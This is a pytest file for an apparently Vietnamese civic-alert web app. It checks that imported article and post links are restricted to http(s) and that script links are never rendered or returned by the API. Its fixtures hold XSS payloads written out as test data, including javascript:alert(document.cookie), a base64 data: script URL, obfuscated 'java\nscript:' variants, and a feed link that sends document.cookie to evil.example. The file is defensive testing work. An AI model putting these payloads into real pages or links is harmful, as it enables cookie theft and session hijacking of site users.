"""Links of imported articles and posts are http(s) only: a `javascript:` or `data:` link
is dropped at import (the article kept, without it, and named in the summary), and one
stored before is never rendered as a link on the alert page nor given out by the API."""

import json

import pytest
from django.core.management import call_command
from django.test import Client
from rest_framework.test import APIClient

from nghedan.alerts.actions import articles_import
from nghedan.alerts.models import Article
from nghedan.alerts.press import read_file
from nghedan.lib import clock
from nghedan.lib.links import http_url
from nghedan.web.tests.scenes import alerted

pytestmark = pytest.mark.django_db

GOOD = "https://baomoi.example/ngap-pho-doi-can-123.html"
POSTS = [
    {"id": "p1", "source": "Facebook", "url": "javascript:alert(document.cookie)",
     "published": "2026-11-23T07:42:00+07:00", "text": "Phố Đội Cấn ngập sâu sau mưa lớn, xe chết máy hàng loạt."},
    {"id": "p2", "source": "Zalo", "url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "published": "2026-11-23T08:00:00+07:00", "text": "Rác thải tồn đọng ở ngõ 120 Đội Cấn bốc mùi hôi."},
    {"id": "p3", "source": "Facebook", "url": GOOD,
     "published": "2026-11-23T09:00:00+07:00", "text": "Cống thoát nước phố Kim Mã bị tắc, nước tràn lên vỉa hè."},
    {"id": "p4", "source": "TikTok", "url": " JavaScript:alert(1)",
     "published": "2026-11-23T10:00:00+07:00", "text": "Đèn đường ngõ 37 Văn Cao hỏng cả tháng chưa ai sửa."},
]  # fmt: skip
RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Báo Thử</title><link>https://baothu.example/</link>
<item><title>Ngập sâu ở phố Đội Cấn</title><link>javascript:fetch('//evil.example/'+document.cookie)</link>
<pubDate>Mon, 23 Nov 2026 07:00:00 +0700</pubDate><description>Nước ngập nửa bánh xe.</description></item>
<item><title>Rác tồn đọng ở Kim Mã</title><link>https://baothu.example/rac-kim-ma.html</link>
<pubDate>Mon, 23 Nov 2026 08:00:00 +0700</pubDate><description>Rác để nhiều ngày.</description></item>
</channel></rss>"""


def write_posts(tmp_path):
    path = tmp_path / "bai-dang.jsonl"
    path.write_text("\n".join(json.dumps(p, ensure_ascii=False) for p in POSTS), encoding="utf-8")
    return path


def test_only_http_links_are_kept_when_posts_are_imported(world, tmp_path):
    result = articles_import(articles=read_file(path=write_posts(tmp_path)))

    stored = {a.external_id: a.url for a in Article.objects.all()}
    assert stored == {"p1": "", "p2": "", "p3": GOOD, "p4": ""}
    assert len(result.created) == 4
    assert [url for _title, url in result.links_dropped] == [
        POSTS[0]["url"],
        POSTS[1]["url"],
        POSTS[3]["url"].strip(),
    ]


def test_a_feed_item_with_a_script_link_is_kept_without_it(world, tmp_path, capsys):
    path = tmp_path / "bao-thu.rss"
    path.write_text(RSS, encoding="utf-8")

    call_command("alerts", "import", str(path), "--json")

    # (Whether the feed reader already dropped the link or the import did, it is not kept.)
    report = json.loads(capsys.readouterr().out)
    assert len(report["created"]) == 2
    assert sorted(Article.objects.values_list("url", flat=True)) == [
        "",
        "https://baothu.example/rac-kim-ma.html",
    ]


def test_the_import_summary_names_the_links_it_dropped(world, tmp_path, capsys):
    call_command("alerts", "import", str(write_posts(tmp_path)))

    out = capsys.readouterr().out
    assert "Đã nhập / imported: 4; đã có / already there: 0" in out
    assert "stored without their link, which is not http/https: 3" in out
    assert "'javascript:alert(document.cookie)'" in out


def test_importing_the_same_bad_link_twice_does_not_make_it_a_duplicate_key(world, tmp_path):
    path = write_posts(tmp_path)

    articles_import(articles=read_file(path=path))
    again = articles_import(articles=read_file(path=path))

    assert again.skipped == 1  # the post with the good link
    assert Article.objects.filter(url=GOOD).count() == 1


@pytest.fixture
def alert_with_old_articles(world):
    """An alert whose articles were stored before links were checked."""
    scene = alerted(world)
    bad = Article.objects.create(
        title="Bài có liên kết độc",
        text="Phố Đội Cấn ngập.",
        url="javascript:alert(document.cookie)",
        imported_at=clock.now(),
    )
    good = Article.objects.create(
        title="Bài có liên kết thật", text="Kim Mã tắc cống.", url=GOOD, imported_at=clock.now()
    )
    scene.alert.articles.add(bad, good)
    return scene.alert


def test_the_alert_page_never_renders_a_script_link(world, alert_with_old_articles):
    client = Client()
    client.force_login(world.leader_a)

    page = client.get(f"/alerts/{alert_with_old_articles.pk}/").content.decode()

    assert "javascript:" not in page
    assert "Bài có liên kết độc" in page
    assert f'<a href="{GOOD}" rel="noopener noreferrer nofollow">Bài có liên kết thật</a>' in page


def test_the_api_gives_out_only_http_links(world, alert_with_old_articles):
    api = APIClient()
    api.force_authenticate(user=world.supervisor)

    detail = api.get(f"/api/v1/alerts/{alert_with_old_articles.pk}/").json()

    links = {article["title"]: article["url"] for article in detail["articles"]}
    assert links == {"Bài có liên kết độc": "", "Bài có liên kết thật": GOOD}


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        " JAVASCRIPT:alert(1)",
        "java\nscript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "https:javascript:alert(1)",
        "//evil.example/x",
        "/relative/path",
        "ftp://files.example/a.txt",
        "http://",
        "https://baomoi.example/a b",
        "https://baomoi.example/" + "a" * 1000,
        "",
        None,
    ],
)
def test_anything_but_an_absolute_http_link_is_refused(link):
    assert http_url(link) == ""


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        (GOOD, GOOD),
        ("HTTP://Tuoitre.Example/x?y=1#z", "HTTP://Tuoitre.Example/x?y=1#z"),
        ("  https://báo.example/đường-ngập  ", "https://báo.example/đường-ngập"),
    ],
)
def test_an_absolute_http_link_is_kept(link, kept):
    assert http_url(link) == kept
